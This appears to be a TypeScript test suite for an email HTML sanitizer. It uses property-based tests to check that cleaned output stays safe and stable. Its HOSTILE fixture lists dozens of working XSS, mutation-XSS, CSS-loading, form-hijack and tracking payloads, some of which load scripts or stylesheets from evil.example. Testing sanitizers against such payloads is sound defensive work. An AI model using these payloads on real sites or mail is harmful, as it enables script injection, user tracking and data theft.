import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanStyle } from './mail.css.ts';
import { isSettled } from './mail.settled.ts';
import { cleanHtml } from './mail.sanitize.ts';

const clean = (html: string) => cleanHtml(html).html;

/** One or more of each class of trick in reliability section 1. */
const HOSTILE: Record<string, string> = {
  script: '<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script in a broken tag': '<<script>alert(1)//<</script>',
  handler: '<p onclick="alert(1)" onmouseover=alert(1)>x</p><img src=x onerror=alert(1)>',
  'handler behind a slash': '<img/src="x"/onerror=alert(1)><svg/onload=alert(1)>',
  'javascript link': '<a href="javascript:alert(1)">x</a>',
  'javascript link with controls':
    '<a href="java\tscript:alert(1)">x</a><a href=" &#14; javascript:alert(1)">x</a><a href="&#x6A;avascript:alert(1)">y</a>',
  'vbscript and data links': '<a href="vbscript:msgbox(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  'svg use': '<svg><use href="data:image/svg\t+xml;base64,PHN2Zz4="></use></svg>',
  'svg animate': '<svg><a><animate attributeName="href " values="javascript:alert(1)" /><text>x</text></a></svg>',
  'svg feImage': '<svg><filter><feImage href="https://evil.example/x"/></filter></svg>',
  'svg in an image': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  math: '<math href="javascript:alert(1)">x</math><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mutation by textarea': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'mutation by comment': '<!--><img src=x onerror=alert(1)>--><!--[if IE]><img src=x onerror=alert(1)><![endif]-->',
  'style element': '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example/y)}</style>',
  'style attribute that loads': '<p style="background:url(https://evil.example/x.png)">x</p>',
  'style escaped': '<p style="background:\\75\\72\\6c(https://evil.example/x.png)">x</p>',
  'style by variable': '<p style="--x:url(https://evil.example);background:var(--x,url(https://evil.example))">x</p>',
  'style by image-set':
    '<p style="background:image-set(\'https://evil.example/x\' 1x)">x</p><p style="list-style-image:src(https://evil.example)">x</p>',
  'style behind a comment': '<p style="background:u/**/rl(https://evil.example/x)">x</p><p style="/*;color:red">x</p>',
  'style unclosed': '<p style="background:url(https://evil.example/x">x</p>',
  expression: '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  overlay: '<div style="position:fixed !important;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  frames:
    '<iframe src="https://evil.example"></iframe><frameset><frame src=x></frameset><object data=x></object><embed src=x><applet code=x>',
  forms: '<form action="https://evil.example"><input name=a><button formaction="https://evil.example">x</button></form>',
  base: '<base href="https://evil.example/"><a href="/x">x</a>',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">',
  media:
    '<video src="https://evil.example" poster="https://evil.example"></video><audio src="https://evil.example"></audio><source srcset="https://evil.example">',
  pictures:
    '<img src="https://evil.example/p.gif"><img srcset="https://evil.example/p 1x"><img src="//evil.example/p"><input type=image src="https://evil.example">',
  backgrounds:
    '<body background="https://evil.example/x"><table background="https://evil.example/x"><tr><td background="https://evil.example/x">x</td></tr></table>',
  clobbering:
    '<p id="root" name="location" class="modal" for="x">x</p><a name="x" ping="https://evil.example" href="https://ok.example" target="_top">x</a>',
  'image map': '<img usemap="#m" src="cid:x"><map name="m"><area href="javascript:alert(1)"></map>',
  'namespace attribute': '<p xmlns:x="javascript:alert(1)" xml:base="https://evil.example" xlink:href="https://evil.example">x</p>',
  'nul and broken bytes': '<scr\u0000ipt>alert(1)</scr\u0000ipt><a href="java\u0000script:alert(1)">x</a>',
  'open attribute': '<a href="https://ok.example" title="<script>alert(1)</script>">x</a><p title="\'><img src=x onerror=alert(1)>">x</p>',
  template: '<template><img src=x onerror=alert(1)></template><xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
};

describe('foreign HTML', () => {
  test.each(Object.entries(HOSTILE))('%s does nothing and loads nothing', (_, html) => {
    const result = clean(html);
    // Attributes that may carry an address, as a browser would read them.
    const tags = result.match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      expect(tag).not.toMatch(
        /^<\/?(script|style|svg|math|iframe|frame|object|embed|form|input|button|base|meta|link|video|audio|source|template|map|area|noscript|textarea)\b/i,
      );
      const outsideQuotes = tag.replace(/"[^"]*"/g, '""');
      expect(outsideQuotes).not.toMatch(
        /\s(on\w+|id|name|class|for|ping|usemap|srcset|background|poster|action|formaction|xmlns\S*|xlink\S*)=/i,
      );
      const href = /\shref="([^"]*)"/.exec(tag)?.[1];
      if (href !== undefined) expect(href).toMatch(/^(https?:\/\/|mailto:|tel:)/);
      const src = /\ssrc="([^"]*)"/.exec(tag)?.[1];
      if (src !== undefined) expect(src).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
      const style = /\sstyle="([^"]*)"/.exec(tag)?.[1] ?? '';
      expect(style).not.toMatch(/url|image-set|src\(|var\(|expression|position|behavior|binding|\\|@/i);
    }
    expect(result.replace(/<[^>]*>/g, '')).not.toMatch(/<\w/);
  });

  test('what a mail needs stays', () => {
    const html =
      '<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td align="center" style="color: #333; padding: 4px 8px"><h1>Offer</h1><p>Dear <b>Marta</b></p><a href="https://ok.example/?a=1&b=2">open</a></td></tr></table>';
    expect(clean(html)).toBe(
      '<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td style="color: #333; padding: 4px 8px" align="center"><h1>Offer</h1><p>Dear <b>Marta</b></p><a href="https://ok.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">open</a></td></tr></table>',
    );
  });

  test('pictures of the mail keep their mark, pictures of other servers are counted', () => {
    const { html, blockedImages } = cleanHtml(
      '<img src="cid:logo@x" alt="Logo"><img src="https://track.example/1.gif"><img src="//track.example/2.gif"><img src="data:image/png;base64,iVBORw0KGgo=">',
    );
    expect(html).toBe('<img alt="Logo" data-cid="logo@x" /><img src="data:image/png;base64,iVBORw0KGgo=" />');
    expect(blockedImages).toBe(2);
  });

  test.each([
    ['color: red; POSITION: fixed; margin: 0 auto !important', 'color: red; margin: 0 auto !important'],
    ['color: rgb(1, 2, 3); width: calc(100% - 1px)', 'color: rgb(1, 2, 3)'],
    ["font-family: 'IBM Plex', serif; content: 'x'", "font-family: 'IBM Plex', serif"],
    ['color: "; background: url(x)', ''],
    ['', ''],
  ])('style %j becomes %j', (given, expected) => expect(cleanStyle(given)).toBe(expected));

  test('cleaning what is clean changes nothing', () => {
    const piece = fc.constantFrom(
      ...Object.values(HOSTILE),
      '<b>',
      '</b>',
      '<p style="',
      '">',
      '&lt;',
      '&amp;amp;',
      '<table><tr>',
      '<td>',
      '"',
      "'",
      '<!--',
      '-->',
      '<a href="https://ok.example">',
      'text',
      '<img src="',
      'cid:a',
      '<li>',
      '\u0000',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 12 }), (pieces) => {
        const once = clean(pieces.join(''));
        expect(clean(once)).toBe(once);
      }),
      { numRuns: 500 },
    );
  });

  /** Elements in each other, as nobody would write them; those that are not allowed leave what is in them. */
  const TREE = fc.letrec<{ tree: string }>((tie) => ({
    tree: fc.oneof(
      { maxDepth: 5 },
      fc.constantFrom('text', ' ', '&amp;lt;', '&nbsp;', 'a & b', '<br>', '<hr>', '<wbr>', '<col>', '<img src="cid:a">', '<img src="x">'),
      fc
        .tuple(
          fc.constantFrom(...'p div span a b li ul td th tr table tbody thead tfoot h1 h2 dd dt dl form x-card font blockquote'.split(' ')),
          fc.constantFrom('', ' style="color: red"', ' href="https://ok.example/?a&b"', ' href="javascript:0"', ' title="a&quot;b<"'),
          fc.array(tie('tree'), { maxLength: 4 }),
        )
        .map(([tag, attributes, within]) => `<${tag}${attributes}>${within.join('')}</${tag}>`),
    ),
  })).tree;

  test('what counts as settled stays as it is, whatever stood in what', () => {
    let settled = 0;
    fc.assert(
      fc.property(fc.array(TREE, { maxLength: 4 }), (trees) => {
        const once = clean(trees.join(''));
        if (isSettled(once)) settled += 1;
        expect(clean(once)).toBe(once);
      }),
      { numRuns: 500 },
    );
    expect(settled).toBeGreaterThan(200);
  });

  test.each([
    ['<table><tr><td align="left"><p style="color: red">Dear <b>Marta</b><br /></p></td></tr></table>', true],
    ['<p><div>closes the paragraph</div></p>', false],
    ['<p>one<p>two</p></p>', false],
    ['<ul><li><li>two</li></li></ul>', false],
    ['<b><i>crossed</b></i>', false],
    ['<b>open', false],
    ['</p>', false],
    ['a < b', false],
    ['<a target="_blank">nowhere</a>', false],
    ['<img alt="of nothing" />', false],
    ['<br>', false],
    ['<wbr></wbr>', false],
  ])('settled: %j is %j', (html, expected) => expect(isSettled(html)).toBe(expected));
});
